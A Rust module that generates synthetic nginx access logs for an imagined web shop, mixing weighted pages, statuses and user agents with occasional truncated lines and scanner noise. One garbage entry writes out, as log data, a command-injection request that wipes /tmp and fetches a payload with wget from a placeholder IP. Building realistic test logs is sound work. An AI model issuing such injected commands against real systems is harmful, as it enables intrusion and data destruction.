//! Access logs in nginx's combined format, as a shop behind a crawler or two would have them: few pages that are
//! most popular, mostly successful, mostly browsers, now and then a very long address, a scanner's garbage, or a
//! line that was cut off.

use super::random::Random;
use std::io::{self, Write};

const STATUSES: [(usize, u16); 10] =
    [(780, 200), (60, 304), (50, 404), (40, 302), (25, 301), (15, 206), (12, 499), (8, 403), (6, 500), (4, 502)];
const METHODS: [(usize, &str); 5] = [(880, "GET"), (80, "POST"), (25, "HEAD"), (10, "PUT"), (5, "OPTIONS")];
const PAGES: [&str; 16] = [
    "/",
    "/static/app.3f9a1c77.js",
    "/static/app.51b0d2aa.css",
    "/images/products/{}/large.jpg",
    "/products/{}",
    "/api/v1/items?page={}&per_page=50",
    "/cart",
    "/search?q=green+tea&offset={}",
    "/login",
    "/api/v1/items/{}/reviews",
    "/favicon.ico",
    "/checkout/step/{}",
    "/fonts/source-sans-3.woff2",
    "/robots.txt",
    "/account/orders/{}?tab=invoices",
    "/health",
];
const REFERERS: [(usize, &str); 4] = [
    (400, "-"),
    (450, "https://shop.example.net/"),
    (100, "https://shop.example.net/search?q=green+tea"),
    (50, "https://search.example.org/"),
];
const AGENTS: [&str; 10] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/about)",
    "okhttp/4.12.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "-",
];
const GARBAGE: [&str; 4] = [
    r#""\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03" 400 150 "-" "-""#,
    r#""-" 408 0 "-" "-""#,
    r#""GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x HTTP/1.1" 400 150 "-" "Hello, world""#,
    r#""\x00\x0E8\xC4\xA7" 400 0"#,
];

/// Writes `lines` lines, none of them empty, and returns their bytes.
pub fn write(out: &mut impl Write, lines: u64, seed: u64) -> io::Result<u64> {
    let mut random = Random::new(seed);
    let mut line = Vec::with_capacity(8192);
    let mut milliseconds = 0;
    let mut bytes = 0;
    for _ in 0..lines {
        // Forty requests a second, at uneven distances.
        milliseconds += random.below(50);
        line.clear();
        put_line(&mut line, &mut random, milliseconds / 1000)?;
        out.write_all(&line)?;
        bytes += line.len() as u64;
    }
    Ok(bytes)
}

fn put_line(line: &mut Vec<u8>, random: &mut Random, second: usize) -> io::Result<()> {
    let user = if random.chance(1, 50) { "mara" } else { "-" };
    write!(
        line,
        "{}.{}.{}.{} - {user} [{:02}/Mar/2015:{:02}:{:02}:{:02} +0000] ",
        [192, 198, 203][random.below(3)],
        random.below(256),
        random.below(256),
        random.below(256),
        1 + second / 86_400 % 31,
        second / 3600 % 24,
        second / 60 % 60,
        second % 60,
    )?;
    if random.chance(1, 1000) {
        return writeln!(line, "{}", GARBAGE[random.below(GARBAGE.len())]);
    }
    write!(line, "\"{} ", random.weighted(&METHODS))?;
    put_page(line, random)?;
    let status = random.weighted(&STATUSES);
    let size = if matches!(status, 304 | 499) { 0 } else { random.size(7, 17) };
    let referer = random.weighted(&REFERERS);
    let agent = random.popular(&AGENTS);
    write!(line, " HTTP/1.1\" {status} {size} \"{referer}\" \"{agent}\"")?;
    if random.chance(1, 2000) {
        // A writer that died in the middle of a line.
        let cut = line.len() / 2;
        line.truncate(cut);
        line.push(b'?');
    }
    line.push(b'\n');
    Ok(())
}

fn put_page(line: &mut Vec<u8>, random: &mut Random) -> io::Result<()> {
    let page = random.popular(&PAGES);
    match page.split_once("{}") {
        Some((before, behind)) => write!(line, "{before}{}{behind}", random.below(50_000))?,
        None => write!(line, "{page}")?,
    }
    if random.chance(1, 200) {
        // An address with a session or a token in it.
        write!(line, "?token=")?;
        for _ in 0..random.size(5, 9) {
            write!(line, "{:016x}", random.bits())?;
        }
    }
    Ok(())
}
